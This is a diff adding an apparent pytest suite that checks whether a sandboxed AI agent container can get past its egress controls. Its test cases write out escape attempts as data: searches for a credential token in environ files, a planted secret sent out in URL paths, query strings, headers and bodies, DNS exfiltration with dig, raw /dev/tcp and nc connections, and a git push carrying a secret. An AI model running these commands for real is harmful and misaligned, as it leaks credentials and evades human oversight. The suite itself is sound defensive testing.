@@ -1,0 +1,240 @@
+"""The sandbox-escape suite: real bottles, every attack refused, judged from both sides.
+
+The agent (shell provider: bash, curl, git, dig) attacks; the outside world
+(tests/escape/outside.py) is an HTTPS/HTTP upstream, a TCP listener and a DNS
+server on the gateway address of a network this suite created. Names are
+pinned to it with the bottle's extra_hosts; its CA is the route's upstream_ca.
+"""
+
+from __future__ import annotations
+
+import socket
+import time
+import uuid
+
+import pytest
+
+from tests.escape.conftest import ROUTE_TOKEN, SECRETS, Bottle
+from tests.escape.outside import Capture
+
+pytestmark = pytest.mark.docker
+
+MARKER = "bot-bottle egress refused"
+CURL = "curl -sS -m 20"
+
+
+def _refused(bottle: Bottle, script: str) -> str:
+    before_req, before_conn = len(bottle.outside.requests), list(bottle.outside.connections)
+    _, out = bottle.sh(script)
+    assert MARKER in out, f"no refusal marker for {script!r}: {out[:400]}"
+    assert "403" in out or "refused" in out
+    assert len(bottle.outside.requests) == before_req, f"upstream saw {script!r}"
+    assert bottle.outside.connections == before_conn, f"a connection arrived for {script!r}"
+    return out
+
+
+# -- the functional side ---------------------------------------------------------
+
+
+def test_allowlisted_request_gets_the_credential_injected(bottle: Bottle) -> None:
+    code, out = bottle.sh(f"{CURL} -H 'Authorization: Bearer agent-fake' https://allowed.test/echo")
+    assert code == 0, out
+    assert bottle.outside.requests[-1]["headers"]["Authorization"] == f"Bearer {ROUTE_TOKEN}"
+
+
+def test_the_bottle_ca_is_in_the_system_trust_store(bottle: Bottle) -> None:
+    # Without the CA variables, curl falls back to the system bundle.
+    unset = " ".join(f"-u {v}" for v in ("CURL_CA_BUNDLE", "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE"))
+    code, out = bottle.sh(f"env {unset} {CURL} https://allowed.test/echo")
+    assert code == 0, out
+
+
+def test_the_credential_is_invisible_inside_the_agent(bottle: Bottle) -> None:
+    for script in (
+        "env",
+        "cat /proc/self/environ",
+        "cat /proc/1/environ 2>/dev/null; true",
+        "grep -rs -e escape-route-token / --exclude-dir=proc --exclude-dir=sys "
+        "--exclude-dir=dev -l; true",
+    ):
+        for user in ("agent", "root"):
+            _, out = bottle.sh(script, user=user, timeout=120)
+            assert ROUTE_TOKEN not in out, (script, user)
+
+
+def test_agent_has_loopback_only(bottle: Bottle) -> None:
+    _, out = bottle.sh("cat /proc/net/dev; cat /proc/net/route")
+    ifaces = {line.split(":")[0].strip() for line in out.splitlines() if ":" in line}
+    assert ifaces == {"lo"}, out
+
+
+# -- 1. hosts not on the allowlist -------------------------------------------------
+
+
+@pytest.mark.parametrize("scheme", ["http", "https"])
+def test_host_not_on_the_allowlist(bottle: Bottle, scheme: str) -> None:
+    out = _refused(bottle, f"{CURL} {scheme}://other.test/x")
+    assert "host-not-allowed" in out
+
+
+# -- 2. IP literals and spoofed names -----------------------------------------------
+
+
+@pytest.mark.parametrize("scheme", ["http", "https"])
+def test_ip_literal(bottle: Bottle, scheme: str) -> None:
+    _refused(bottle, f"{CURL} {scheme}://{bottle.outside.host}/x")
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        "-H 'Host: other.test' http://allowed.test/x",
+        "-H 'Host: other.test' https://allowed.test/x",
+        "--connect-to other.test:443:allowed.test:443 https://other.test/x",
+        "--resolve other.test:443:{gw} https://other.test/x",
+    ],
+)
+def test_spoofed_host(bottle: Bottle, args: str) -> None:
+    script = f"{CURL} {args.format(gw=bottle.outside.host)}"
+    before = len(bottle.outside.requests)
+    code, out = bottle.sh(script)
+    # Refused by egress (marker), or by curl itself (TLS name mismatch):
+    # either way nothing reaches the upstream.
+    assert MARKER in out or code != 0, out
+    assert len(bottle.outside.requests) == before
+
+
+# -- 3. DLP on an allowlisted host ---------------------------------------------------
+
+GH = SECRETS["github"]
+
+
+@pytest.mark.parametrize(
+    "where",
+    [
+        f"https://allowed.test/leak/{GH}",
+        f"'https://allowed.test/q?x={GH}'",
+        f"-H 'X-Leak: {GH}' https://allowed.test/h",
+        f"--data 'note={GH}' https://allowed.test/b",
+    ],
+    ids=["path", "query", "header", "body"],
+)
+def test_planted_secret_is_blocked(bottle: Bottle, where: str) -> None:
+    out = _refused(bottle, f"{CURL} {where}")
+    # Echoing the agent's own request back to it leaks nothing; what matters
+    # is that the upstream saw nothing (checked by _refused).
+    assert "dlp" in out.lower() or "secret" in out.lower(), out
+
+
+# -- 4. DNS exfiltration ---------------------------------------------------------------
+
+
+def _positive_control(bottle: Bottle) -> None:
+    """The same capture and server do see a query sent from the host: a quiet
+    capture above means nothing was sent, not that capturing is broken."""
+    control = f"control{uuid.uuid4().hex}".encode()
+    with Capture() as cap, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+        udp.sendto(b"\x00\x01" + control, (bottle.outside.host, 53))
+        deadline = time.monotonic() + 5
+        while not (cap.seen(control) and bottle.outside.dns_queries):
+            assert time.monotonic() < deadline, "positive control not seen"
+            time.sleep(0.05)
+    assert any(control in q for q in bottle.outside.dns_queries)
+    bottle.outside.dns_queries.clear()
+
+
+def test_dns_exfiltration_through_the_resolver(bottle: Bottle) -> None:
+    label = f"exfil{uuid.uuid4().hex}"
+    with Capture() as cap:
+        code, out = bottle.sh(f"dig +time=2 +tries=1 {label}.other.test")
+        code2, out2 = bottle.sh(f"getent hosts {label}.example.com")
+    assert code != 0 or "NOERROR" not in out, out
+    assert code2 != 0, out2
+    assert bottle.outside.dns_queries == []
+    assert not cap.seen(label.encode()), "the lookup left the bottle"
+    _positive_control(bottle)
+
+
+def test_dns_query_straight_to_a_host_server(bottle: Bottle) -> None:
+    gw = bottle.outside.host
+    label = f"exfil{uuid.uuid4().hex}"
+    with Capture() as cap:
+        for extra in ("", "+tcp"):
+            code, out = bottle.sh(f"dig {extra} +time=2 +tries=1 @{gw} {label}.exfil.test")
+            assert code != 0, out
+    assert bottle.outside.dns_queries == []
+    assert not [c for c in bottle.outside.connections if c.startswith("53 ")]
+    assert not cap.seen(label.encode()), "the query left the bottle"
+    _positive_control(bottle)
+
+
+# -- 5. git push of a secret through git-gate ---------------------------------------------
+
+
+@pytest.mark.parametrize("shape", sorted(SECRETS))
+def test_push_with_a_secret_is_rejected_before_upstream(bottle: Bottle, shape: str) -> None:
+    o = bottle.outside
+    url = f"ssh://git@{o.host}:{o.listener_port}/proj.git"
+    script = (
+        f"set -e; d=$(mktemp -d); cd $d; git init -q -b main; "
+        f"echo 'key = {SECRETS[shape]}' > config.txt; git add config.txt; "
+        f"git commit -qm 'add config'; git push {url} HEAD:main"
+    )
+    before = list(o.connections)
+    code, out = bottle.sh(script)
+    assert code != 0, out
+    assert "git-gate" in out, out
+    assert SECRETS[shape] not in out
+    assert o.connections == before, "the upstream was contacted"
+
+
+# -- 6. direct connections that ignore the proxy ------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "curl -sS -m 5 --noproxy '*' http://{gw}:{port}/",
+        "exec 3<>/dev/tcp/{gw}/{port} && echo CONNECTED",
+        "nc -z -w 3 {gw} {port} && echo CONNECTED",
+        "curl -sS -m 5 --noproxy '*' https://allowed.test/",
+    ],
+)
+def test_direct_tcp_is_impossible(bottle: Bottle, script: str) -> None:
+    o = bottle.outside
+    before = list(o.connections)
+    code, out = bottle.sh(script.format(gw=o.host, port=o.listener_port), timeout=20)
+    assert code != 0 and "CONNECTED" not in out, out
+    assert o.connections == before
+
+
+# -- not an attack: the docker freezer on the same bottle ----------------------------------
+
+
+def test_the_freezer_commits_the_agent(bottle: Bottle, docker_client) -> None:
+    from bot_bottle_docker.freezer import DockerFreezer
+
+    bottle.sh("echo frozen-marker > ~/note")
+    freezer = DockerFreezer()
+    frozen = freezer.commit(bottle.running, ref=f"bbtest-frozen/{bottle.slug}:1")
+    try:
+        out = docker_client.containers.run(
+            frozen.ref, ["cat", "/home/agent/note"], remove=True, network_disabled=True
+        )
+        assert out.strip() == b"frozen-marker"
+    finally:
+        freezer.remove(frozen)
+
+
+def test_supervise_answers_on_loopback_with_the_route_table(bottle: Bottle) -> None:
+    body = (
+        '{"jsonrpc":"2.0","id":1,"method":"tools/call",'
+        '"params":{"name":"list-egress-routes","arguments":{}}}'
+    )
+    code, out = bottle.sh(
+        "curl -sS -m 20 http://127.0.0.1:8765/mcp -H 'Content-Type: application/json' "
+        f"-H 'Accept: application/json, text/event-stream' -d '{body}'"
+    )
+    assert code == 0, out
+    assert "allowed.test" in out, out
+    assert ROUTE_TOKEN not in out
